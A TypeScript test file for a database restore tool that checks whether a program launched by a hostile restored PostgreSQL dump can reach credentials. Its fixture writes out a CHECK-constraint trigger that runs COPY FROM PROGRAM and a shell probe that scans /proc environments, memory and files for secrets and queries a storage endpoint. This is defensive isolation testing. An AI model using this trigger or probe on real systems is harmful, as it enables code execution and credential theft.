/**
 * What a program can reach that a restored dump starts. The dump is hostile: its table has a check that runs a program when a row is
 * loaded. The program looks for a planted value (in environments, command lines and memory of processes, and in files), and asks the
 * emulator for an object without credentials; what it finds it brings back as rows of a table, where the test reads it.
 */
import { PutObjectCommand } from '@aws-sdk/client-s3';
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, chownSync, cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it, vi } from 'vitest';
import { connectToThrowaway, removeThrowaway, startThrowaway } from '../../../adapters/postgres/throwaway.ts';
import { serverAccount } from '../../../local/processes/accounts.ts';
import { createIsolator } from '../../../local/run/isolation.ts';
import type { Container as TaskContainer } from '../../../local/run/task-definition.ts';
import { restorePoint, RESTORED_DATABASE } from '../../../tasks/drill/restore-point.ts';
import { readRoles, retrieve } from '../../../tasks/restore/load-archive.ts';
import { freshBucket, freshDatabase, rootS3, type FreshDatabase } from '../../helpers/servers.ts';
import { makePoint, searchPath, startContainer, type ContainerOptions, type MadePoint } from './fixture.ts';

const PLANTED = `planted-${randomBytes(12).toString('hex')}`;
/** Finds the value and is not the value. */
const PATTERN = `${PLANTED.slice(0, 8)}[${PLANTED[8]}]${PLANTED.slice(9)}`;

const probe = (url: string, plantedFile: string) =>
  [
    'echo "uid $(id -u)"',
    'env | sed "s/^/env /"',
    'for p in /proc/[0-9]*; do',
    `  for f in environ cmdline; do tr "\\0" "\\n" 2>/dev/null <$p/$f | grep -q "${PATTERN}" && echo "found $p/$f"; done`,
    '  [ "$p" = "/proc/$$" ] && continue',
    // Its own pipelines, and the waiting of its container's script, come and go while it looks; one that is just ending names no program any more.
    '  case "$(readlink $p/exe 2>/dev/null)" in ""|*postgres*|*/sh|*/dash|*/grep|*/tr|*/sed|*/env|*/cat|*/head|*/readlink|*/sleep) continue ;; esac',
    '  head -c 1 $p/mem >/dev/null 2>&1 && echo "memory $p"; cat $p/maps 2>/dev/null | head -n 1 | grep -q . && echo "maps $p"',
    'done',
    `cat ${plantedFile} 2>/dev/null | grep -q "${PATTERN}" && echo "found ${plantedFile}"`,
    `find /tmp /etc /home /root /run /var/tmp -maxdepth 3 -xdev -type f -readable -newermt "-30 minutes" -size -64k 2>/dev/null | head -n 200 | while read -r f; do grep -q -s "${PATTERN}" "$f" && echo "found $f"; done`,
    `curl -sk -m 20 -o /dev/null -w "network %{http_code}\\n" ${url} || true`,
    'echo done',
  ].join('\n');

let source: FreshDatabase;
let made: MadePoint;
let plantedDir: string;
let decoy: ReturnType<typeof spawn> | undefined;
const isRoot = process.getuid?.() === 0;

beforeAll(async () => {
  plantedDir = mkdtempSync(join(tmpdir(), 'holdfast-planted-'));
  const file = join(plantedDir, 'credentials');
  writeFileSync(file, `aws_secret_access_key = ${PLANTED}\n`, { mode: 0o600 });
  // A runner with credentials in its environment.
  decoy = spawn('tail', ['-f', '/dev/null'], { env: { AWS_SECRET_ACCESS_KEY: PLANTED, PATH: '/usr/bin:/bin' } });
  const bucket = await freshBucket({ name: 'others' });
  const s3 = rootS3();
  await s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'object', Body: 'private' }));
  s3.destroy();
  source = await freshDatabase('isolation');
  const client = await source.connect();
  // On the source it does nothing: only the throwaway server has this user.
  await client.query(`
    CREATE TABLE public.aa_found (line text);
    CREATE FUNCTION public.attack(int) RETURNS boolean LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog AS $attack$ BEGIN
      IF session_user = 'holdfast' THEN
        CREATE TABLE IF NOT EXISTS public.brought (line text);
        COPY public.brought FROM PROGRAM $probe$${probe(`${inject('emulator').endpointUrl}/${bucket}/object`, file).replaceAll('\\', '\\\\')}$probe$;
      END IF;
      RETURN true;
    END $attack$;
    CREATE TABLE public.bait (id int CHECK (public.attack(id)));
    INSERT INTO public.bait VALUES (1);
  `);
  made = await makePoint(source);
});
afterAll(async () => {
  decoy?.kill('SIGKILL');
  rmSync(plantedDir, { recursive: true, force: true });
  await source.drop();
});

/** What the program brought back. */
async function attackWith(options: ContainerOptions): Promise<string[]> {
  const container = startContainer({ ...options, environment: { AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: `/v2/credentials/${PLANTED}` } });
  const { sharedDir, scratchDir } = container;
  const { signal } = new AbortController();
  const point = { reader: made.reader, manifest: made.manifest };
  try {
    await retrieve(point, scratchDir, signal, () => undefined);
    const ready = await startThrowaway(sharedDir, { memoryMiB: 256, jobs: 1 }, { timeoutSeconds: 60, signal }).catch((error: unknown) => {
      throw new Error(`the container did not start: ${container.output()}`, { cause: error });
    });
    const order = {
      point,
      roles: await readRoles(point),
      drill: { ...made.asset.drill, jobs: 1 },
      sharedDir,
      scratchDir,
      path: searchPath(),
    };
    await restorePoint({ ...order, serverVersion: ready.serverVersion, signal, moved: () => undefined });
    const database = await connectToThrowaway(sharedDir, RESTORED_DATABASE);
    const lines = (await database.query('SELECT line FROM public.brought')).map(([line]) => line ?? '');
    await database.end();
    return lines;
  } finally {
    await removeThrowaway(sharedDir, 20);
    await container.remove();
  }
}

const secretsIn = (lines: string[]) => lines.filter((line) => /^(found|memory|maps) |AWS|planted/.test(line));

describe('a program that a restored dump starts', () => {
  it.runIf(isRoot)('finds no credential as another user, as in a container of Fargate', async () => {
    const lines = await attackWith({ wrap: (command) => command });
    expect(lines).toContain(`uid ${serverAccount()?.uid}`);
    expect(lines).toContain('done');
    expect(secretsIn(lines)).toEqual([]);
    // It reaches the emulator, and without credentials it is refused.
    expect(lines.filter((line) => line.startsWith('network'))).toEqual(['network 403']);
  });

  it.runIf(isRoot)('finds no credential, no process and no network as local runs it', async () => {
    const lines = await attackWith({ wrap: await launched() });
    expect(lines).toContain('done');
    expect(secretsIn(lines)).toEqual([]);
    expect(lines).toContain('network 000');
  });

  it.runIf(isRoot)('would find them as the same user with nothing between, so the search is one', async () => {
    plantAs(serverAccount());
    const lines = await attackWith({ wrap: (command) => command });
    expect(secretsIn(lines).some((line) => line.includes('/environ'))).toBe(true);
    expect(secretsIn(lines)).toContain(`found ${join(plantedDir, 'credentials')}`);
  });

  it('finds no credential of the very same user in a user namespace, where the kernel allows one', async (context) => {
    const wrap = await asOrdinaryUser();
    context.skip(!wrap, 'no user namespaces here');
    if (!wrap) return;
    const lines = await attackWith({ wrap });
    expect(lines).toContain('done');
    expect(secretsIn(lines)).toEqual([]);
    expect(lines).toContain('network 000');
  });
});

const container = { user: '10002:10002', hasInit: false } as unknown as TaskContainer;

/** As local starts the container; `command` is that of the fixture, with its own way of becoming another user taken off. */
async function launched(): Promise<(command: string[]) => string[]> {
  const isolator = await createIsolator(process.env);
  return (command) => {
    const own = command.slice(command.indexOf('sh'));
    const [, script = '', sharedDir = '', dataDir = ''] = own;
    if (isRoot) for (const dir of [sharedDir, dataDir]) chownSync(dir, 10_002, 10_002);
    const surroundings = {
      directory: mkdtempSync(join(plantedDir, 'task-')),
      visible: [script, sharedDir, dataDir, ...programs()],
      workingDirectory: '/',
    };
    const launch = isolator.launch(container, own, surroundings);
    return [launch.command, ...launch.args];
  };
}

/** The file and a process with the value in its environment now belong to this account. */
function plantAs(account: { uid: number; gid: number } | undefined): void {
  if (!account) return;
  chmodSync(plantedDir, 0o711);
  chownSync(join(plantedDir, 'credentials'), account.uid, account.gid);
  decoy?.kill('SIGKILL');
  decoy = spawn('tail', ['-f', '/dev/null'], { env: { AWS_SECRET_ACCESS_KEY: PLANTED, PATH: '/usr/bin:/bin' }, ...account });
}

/** The same without being root: when this process is, an ordinary account stands in, and owns what is planted too. */
async function asOrdinaryUser(): Promise<((command: string[]) => string[]) | undefined> {
  const account = serverAccount();
  if (!account) return (await createIsolator(process.env)).isolation === 'user-namespace' ? launched() : undefined;
  const become = ['setpriv', `--reuid=${account.uid}`, `--regid=${account.gid}`, '--clear-groups', '--'];
  const spy = vi.spyOn(process, 'getuid').mockReturnValue(account.uid);
  try {
    const isolator = await createIsolator(process.env);
    if (isolator.isolation !== 'user-namespace') return undefined;
    plantAs(account);
    return (command) => {
      const own = command.slice(command.indexOf('sh'));
      const [, script = '', sharedDir = '', dataDir = ''] = own;
      const directory = mkdtempSync(join(plantedDir, 'task-'));
      chownSync(directory, account.uid, account.gid);
      const launch = isolator.launch(container, own, {
        directory,
        visible: [script, sharedDir, dataDir, ...programs()],
        workingDirectory: '/',
      });
      // Another user may not enter the directory of the sources.
      const enter = join(directory, 'enter-container.sh');
      const args = launch.args.map((argument) => {
        if (!argument.endsWith('enter-container.sh')) return argument;
        cpSync(argument, enter);
        chmodSync(enter, 0o755);
        return enter;
      });
      for (const name of ['root', 'passwd']) chownSync(join(directory, name), account.uid, account.gid);
      return [...become, launch.command, ...args];
    };
  } finally {
    spy.mockRestore();
  }
}

/** Programs that are not in the directories of the system. */
const programs = () => (inject('postgres').binDir.startsWith('/usr/') ? [] : [join(inject('postgres').binDir, '..')]);
